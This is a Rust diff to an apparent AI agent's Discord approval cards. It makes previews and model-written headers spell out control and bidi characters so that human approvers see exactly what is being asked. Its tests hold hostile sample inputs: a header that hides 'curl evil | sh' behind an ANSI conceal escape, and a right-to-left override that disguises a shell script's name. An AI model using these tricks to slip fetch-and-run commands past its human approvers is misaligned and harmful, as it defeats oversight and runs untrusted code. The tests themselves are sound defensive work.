@@ -6,13 +6,17 @@
 use sandpiper_agent::protocol::ApprovalItem;
 use sandpiper_agent::store::approvals::ApprovalRecord;
 
+use crate::visible;
+
 /// Most rows on one card: Discord allows five rows of buttons and the last is Approve all /
 /// Deny all. A larger batch is posted as several cards.
 pub const MAX_ROWS: usize = 4;
 
-/// Longest preview shown per row; longer ones are cut with a note (the full arguments are in
-/// the thread's history).
+/// Longest preview shown per row, in characters as shown; longer ones are cut with a note of
+/// how much is hidden (the full arguments are in the thread's history).
 pub const PREVIEW_LIMIT: usize = 900;
+/// Most preview lines shown per row.
+pub const PREVIEW_LINES: usize = 40;
 
 /// A card: the requests of one batch (or part of one).
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -70,18 +74,18 @@ impl ApprovalCard {
     }
 }
 
-/// The preview, cut to [`PREVIEW_LIMIT`] characters with a note, safe inside a code block.
+/// The preview as the approver sees it: control and bidi characters spelled out (see
+/// [`visible`](crate::visible)), cut to [`PREVIEW_LINES`] lines and [`PREVIEW_LIMIT`]
+/// characters with a note of how much is hidden, and safe inside a code block.
 pub fn preview(text: &str) -> String {
-    let text = text.replace("```", "`\u{200b}``");
-    let count = text.chars().count();
-    if count <= PREVIEW_LIMIT {
-        return text;
-    }
-    let cut: String = text.chars().take(PREVIEW_LIMIT).collect();
-    format!(
-        "{cut}\n… ({} more characters not shown)",
-        count - PREVIEW_LIMIT
-    )
+    visible::cut(text, PREVIEW_LINES, PREVIEW_LIMIT).replace("```", "`\u{200b}``")
+}
+
+/// A model-written header as the approver sees it: one line, control and bidi characters
+/// spelled out.
+pub fn header(text: &str) -> String {
+    let line = text.lines().next().unwrap_or_default();
+    visible::escape_invisible(line).into_owned()
 }
 
 /// What happened to a row, in words, e.g. `✅ Approved by alice at 14:03 UTC — note: "ok"`.
@@ -138,8 +142,23 @@ mod tests {
     #[test]
     fn long_previews_are_cut_with_a_note_and_fences_cannot_escape() {
         let long = "x".repeat(PREVIEW_LIMIT + 10);
-        assert!(preview(&long).ends_with("… (10 more characters not shown)"));
+        assert!(preview(&long).ends_with("… 1 more line (10 bytes) not shown"));
         assert!(!preview("a ``` b").contains("```"));
+        let many: String = (0..100).map(|i| format!("{i}\n")).collect();
+        assert!(
+            preview(&many).ends_with("\n39\n… 60 more lines (179 bytes) not shown"),
+            "{}",
+            preview(&many)
+        );
+    }
+
+    #[test]
+    fn headers_and_previews_spell_out_escapes_and_bidi_overrides() {
+        assert_eq!(
+            header("bash: echo ok\x1b[8m; curl evil | sh\nsecond line"),
+            "bash: echo ok\\x1b[8m; curl evil | sh"
+        );
+        assert_eq!(preview("cat \u{202e}gnp.sh"), "cat \\u202egnp.sh");
     }
 
     #[test]
